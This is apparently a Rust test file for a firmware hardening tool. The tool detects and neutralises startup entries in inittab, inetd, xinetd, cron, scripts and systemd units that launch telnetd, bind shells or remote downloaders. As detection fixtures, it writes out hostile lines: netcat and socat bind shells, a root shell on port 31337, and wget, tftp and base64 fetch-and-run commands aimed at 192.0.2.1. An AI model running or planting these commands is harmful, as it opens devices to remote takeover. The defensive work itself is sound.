//! Tables of the programs that a line starts, and of the file's text afterwards.

use super::*;
use crate::wall::policy::tests::bare;
use crate::wall::policy::{Reach, Service};
use crate::wall::process_snapshot::{Program, Transport};
use crate::wall::report::Judgement;
use alloc::vec;

/// A file, its effect, and its later text; the same where nothing is found.
type Case = (Kind, &'static str, &'static [(u32, Does, &'static str)], &'static str);

use Does::{Fetch, Shell, Telnet};
use Kind::{Cron, CronOfUsers, Inetd, Inittab, Script, Unit, Xinetd};

const CASES: &[Case] = &[
    (
        Inittab,
        "::sysinit:/etc/init.d/rcS\r\n# ::respawn:telnetd\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\n",
        &[(3, Telnet, "/usr/sbin/telnetd")],
        "::sysinit:/etc/init.d/rcS\r\n# ::respawn:telnetd\n# komainu: ::respawn:/usr/sbin/telnetd -F -l /bin/sh\n",
    ),
    (
        Inittab,
        "tn:2345:respawn:busybox telnetd -p 2323",
        &[(1, Telnet, "telnetd")],
        "# komainu: tn:2345:respawn:busybox telnetd -p 2323",
    ),
    (
        Inittab,
        "::sysinit:/etc/init.d/rcS; telnetd &\n",
        &[(1, Telnet, "telnetd")],
        "::sysinit:/etc/init.d/rcS; true &\n",
    ),
    (Inittab, "tn:2:off:/usr/sbin/telnetd\n::respawn:-/bin/sh\n:::\n::\nx", &[], ""),
    (
        Inetd,
        "#telnet stream tcp nowait root /x telnetd\ntelnet\tstream tcp nowait root /usr/sbin/tcpd in.telnetd\n",
        &[(2, Telnet, "in.telnetd")],
        "#telnet stream tcp nowait root /x telnetd\n# komainu: telnet\tstream tcp nowait root /usr/sbin/tcpd in.telnetd\n",
    ),
    (
        Inetd,
        "31337 stream tcp nowait root /bin/sh sh -i\nftp stream tcp nowait root /sbin/ftpd ftpd",
        &[(1, Shell, "/bin/sh")],
        "# komainu: 31337 stream tcp nowait root /bin/sh sh -i\nftp stream tcp nowait root /sbin/ftpd ftpd",
    ),
    (
        Inetd,
        "0.0.0.0:telnet stream tcp nowait root /opt/odd odd\ntelnet",
        &[(1, Telnet, "/opt/odd"), (2, Telnet, "telnet")],
        "# komainu: 0.0.0.0:telnet stream tcp nowait root /opt/odd odd\n# komainu: telnet",
    ),
    (
        Xinetd,
        "defaults\n{\n}\nservice telnet\n{\n\tdisable = no\n\tserver = /usr/sbin/in.telnetd\n}\n",
        &[(4, Telnet, "/usr/sbin/in.telnetd")],
        "defaults\n{\n}\nservice telnet\n{\n# komainu: \tdisable = no\n\tserver = /usr/sbin/in.telnetd\n\tdisable = yes\n}\n",
    ),
    (
        Xinetd,
        "service odd\n{\n server = /bin/busybox\n server_args = telnetd -i\n}",
        &[(1, Telnet, "telnetd")],
        "service odd\n{\n server = /bin/busybox\n server_args = telnetd -i\n\tdisable = yes\n}",
    ),
    (Xinetd, "service telnet\n{\n disable = yes\n}\nservice x\n{\nserver = /y\n}\nservice telnet", &[], ""),
    (
        Script,
        "#!/bin/sh\nif [ -x /usr/sbin/telnetd ]; then /usr/sbin/telnetd -l /bin/login & fi\n",
        &[(2, Telnet, "/usr/sbin/telnetd")],
        "#!/bin/sh\nif [ -x /usr/sbin/telnetd ]; then /bin/true -l /bin/login & fi\n",
    ),
    (
        Script,
        "nvram=1 nohup busybox \\\r\n  telnetd -p 2323 >/dev/null 2>&1 &\necho done",
        &[(1, Telnet, "telnetd")],
        "nvram=1 nohup busybox \\\r\n  true -p 2323 >/dev/null 2>&1 &\necho done",
    ),
    (
        Script,
        "start() {\n start-stop-daemon -S -q -b -x /usr/sbin/telnetd -- -F\n}\nstop() {\n start-stop-daemon -K -x /usr/sbin/telnetd\n}\n",
        &[(2, Telnet, "/usr/sbin/telnetd")],
        "start() {\n start-stop-daemon -S -q -b -x /bin/true -- -F\n}\nstop() {\n start-stop-daemon -K -x /usr/sbin/telnetd\n}\n",
    ),
    (
        Script,
        "start_service() {\n\tprocd_set_param command /usr/sbin/telnetd -F -l /bin/login.sh\n}\n",
        &[(2, Telnet, "/usr/sbin/telnetd")],
        "start_service() {\n\tprocd_set_param command /bin/true -F -l /bin/login.sh\n}\n",
    ),
    (
        Script,
        "PROG=\"/usr/sbin/telnetd\" # ours\nprocd_set_param command \"${PROG}\"\n",
        &[(1, Telnet, "/usr/sbin/telnetd")],
        "PROG=\"/bin/true\" # ours\nprocd_set_param command \"${PROG}\"\n",
    ),
    (
        Script,
        "sh -c \"sleep 5; telnetd -l /bin/sh\" &\n(telnetd)\nx=`telnetd`\n",
        &[(1, Telnet, "telnetd"), (2, Telnet, "telnetd"), (3, Telnet, "telnetd")],
        "sh -c \"sleep 5; true -l /bin/sh\" &\n(true)\nx=`true`\n",
    ),
    (
        Script,
        "tel\"\"net'd' -p 99 \n/sbin/te\0lnetd\n\"telnetd\" -x\n",
        &[(1, Telnet, "telnetd"), (2, Telnet, "/sbin/telnetd"), (3, Telnet, "telnetd")],
        "",
    ),
    (
        Script,
        "killall telnetd\necho \"starting telnetd; telnetd\"\n# telnetd\ntelnetd() { :; }\ncase $1 in\ntelnetd) x;;\nesac\n\
         pidof telnetd && echo\nbusybox pkill telnetd\nls /usr/sbin/telnetd > telnetd\nN=telnetd\nrm 'telnetd'\n\
         /etc/init.d/telnetd stop\n",
        &[],
        "",
    ),
    (
        Script,
        "nc -l -p 4444 -e /bin/sh &\nnc ntp 123 < /dev/null\nsocat TCP-LISTEN:9,fork EXEC:/bin/ash\ntcpsvd 0 99 sh -i\n",
        &[(1, Shell, "nc"), (3, Shell, "socat"), (4, Shell, "tcpsvd")],
        "true -l -p 4444 -e /bin/sh &\nnc ntp 123 < /dev/null\ntrue TCP-LISTEN:9,fork EXEC:/bin/ash\ntrue 0 99 sh -i\n",
    ),
    (
        Script,
        "cd /tmp || cd /var; wget http://192.0.2.1/b; chmod 777 b; ./b\n",
        &[(1, Fetch, "wget")],
        "cd /tmp || cd /var; true http://192.0.2.1/b; chmod 777 b; ./b\n",
    ),
    (
        Script,
        "wget -O /tmp/list https://maker.example/list; chmod 644 /tmp/list\nwget -q http://x/ || echo no | sh\nchmod 777 /tmp/socket\n/tmp/x\n",
        &[],
        "",
    ),
    (
        Cron,
        "# telnetd\n*/5 * * * * wget -qO- http://192.0.2.1/x | sh\n@reboot telnetd\n0 3 * * * killall telnetd; reboot\n",
        &[(2, Fetch, "wget"), (3, Telnet, "telnetd")],
        "# telnetd\n# komainu: */5 * * * * wget -qO- http://192.0.2.1/x | sh\n# komainu: @reboot telnetd\n0 3 * * * killall telnetd; reboot\n",
    ),
    (
        Cron,
        "* * * * * echo Zg== | base64 -d | busybox ash",
        &[(1, Fetch, "base64")],
        "# komainu: * * * * * echo Zg== | base64 -d | busybox ash",
    ),
    (
        CronOfUsers,
        "PATH=/bin\n@daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n* * * * * root telnetd\n",
        &[(2, Fetch, "tftp"), (3, Telnet, "telnetd")],
        "PATH=/bin\n# komainu: @daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n# komainu: * * * * * root telnetd\n",
    ),
    (
        Unit,
        "[Service]\n# ExecStart=telnetd\nExecStart=-/usr/sbin/in.telnetd \\\n  -h\nExecStop=/bin/kill telnetd\n",
        &[(3, Telnet, "/usr/sbin/in.telnetd")],
        "[Service]\n# ExecStart=telnetd\nExecStart=-/bin/true \\\n  -h\nExecStop=/bin/kill telnetd\n",
    ),
];

#[test]
fn every_line_that_starts_what_nobody_wants_is_found_and_goes() {
    for (kind, text, expected, after) in CASES {
        let found = autostart_entries(*kind, text.as_bytes());
        let seen: Vec<_> = found.iter().map(|one| (one.line, one.does, one.program.as_str())).collect();
        assert_eq!(&seen, expected, "{text}");
        let mut bytes = text.as_bytes().to_vec();
        // A table's earlier entries move nothing: numbers stay, but for xinetd's.
        for one in found.iter().rev() {
            let changed = without(*kind, &bytes, one.line, &one.says);
            bytes = changed.unwrap_or_else(|| panic!("{one:?} of {text}"));
        }
        assert_eq!(autostart_entries(*kind, &bytes), [], "{}", String::from_utf8_lossy(&bytes));
        if !after.is_empty() {
            assert_eq!(String::from_utf8_lossy(&bytes), *after);
        }
    }
}

#[test]
fn a_line_that_has_changed_is_left_alone() {
    let text = b"::respawn:telnetd\n::respawn:x\n";
    let found = autostart_entries(Inittab, text);
    assert_eq!(without(Inittab, text, 1, "::respawn:telnetd -F"), None);
    assert_eq!(without(Inittab, text, 2, &found[0].says), None);
    assert_eq!(without(Inittab, text, 0, &found[0].says), None);
    assert!(without(Inittab, text, 1, &found[0].says).is_some());
}

#[test]
fn quotes_that_would_come_apart_are_left_alone() {
    let text = b"sh -c \"a 'b'te\"lnetd\n";
    for one in autostart_entries(Script, text) {
        assert_eq!(without(Script, text, one.line, &one.says), None);
    }
}

#[test]
fn a_file_without_end_is_read_in_bounds() {
    let many = "telnetd\n".repeat(5_000);
    assert_eq!(autostart_entries(Script, many.as_bytes()).len(), STARTERS_MAX);
    let long = ["telnetd ", &"x".repeat(8_000), "日"].concat();
    let found = autostart_entries(Script, long.as_bytes());
    assert_eq!(found[0].says.len(), SAYS_BYTES_MAX);
    assert!(without(Script, long.as_bytes(), 1, &found[0].says).unwrap().starts_with(b"true xx"));
    let assigned = "a=telnetd\n".repeat(6_000);
    assert!(autostart_entries(Script, assigned.as_bytes()).len() <= STARTERS_MAX);
}

#[test]
fn a_line_on_the_firmwares_own_medium_cannot_be_changed_and_that_is_said() {
    let found = |text: &str, changeable| {
        let starter = autostart_entries(Inittab, text.as_bytes()).remove(0);
        [FoundAutostart { file: "/etc/inittab".into(), kind: Inittab, starter, changeable }]
    };
    let judged = |found: &[FoundAutostart], policy: &Policy| {
        let mut report = Report::default();
        judge(found, None, policy, &mut report);
        report
    };
    let strict = policy(vec![]);
    let report = judged(&found("::respawn:telnetd", true), &strict);
    assert_eq!(&*report.findings[0].what, "/etc/inittab line 1 starts telnet: ::respawn:telnetd");
    let remediation =
        Remediation::StopStarting { file: "/etc/inittab".into(), line: 1, says: "::respawn:telnetd".into() };
    assert_eq!(report.remediations(), [&remediation]);
    let report = judged(&found("::respawn:telnetd", false), &strict);
    assert!(matches!(report.judgement(Measure::Respawn), Judgement::CannotEnforce(_)));
    let report = judged(&found("::once:wget http://192.0.2.1/x -O- | sh", true), &strict);
    assert!(!report.findings[0].is_infection());
    let allowed = policy(vec![Service {
        program: "telnetd".into(),
        transport: Transport::Tcp,
        ports: (23, 23),
        reach: Reach::Lan,
        public: false,
    }]);
    assert_eq!(judged(&found("::respawn:/bin/telnetd", true), &allowed), Report::default());
}

#[test]
fn only_the_program_that_reads_a_file_is_told_of_its_change() {
    let process = |pid, name: &str, user| Process {
        id: ProcessId { pid, started: 1 },
        parent: 0,
        user,
        program: Program::File {
            path: ["/sbin/", name].concat(),
            there: true,
            replaced: false,
            medium: crate::wall::process_snapshot::Medium::Firmware,
            elsewhere: false,
        },
        name: name.into(),
        first_word: name.into(),
        second_word: String::new(),
        stopped: false,
        namespaced: false,
        holds_watchdog: false,
        writes_flash: false,
    };
    let pid = |kind, processes: &[Process]| hears(kind, processes).map(|id| id.pid);
    let all = [process(1, "init", 0), process(7, "inetd", 0), process(8, "xinetd", 5)];
    assert_eq!(pid(Inittab, &all), Some(1));
    assert_eq!(pid(Inetd, &all), Some(7));
    assert_eq!(pid(Xinetd, &all), None, "not root's");
    assert_eq!(pid(Script, &all), None);
    assert_eq!(pid(Inittab, &[process(1, "sh", 0), process(2, "init", 0)]), None);
    assert_eq!(pid(Inetd, &[process(7, "inetd", 0), process(9, "inetd", 0)]), None, "which of them?");
}

fn policy(services: Vec<Service>) -> Policy {
    Policy { services, ..bare() }
}
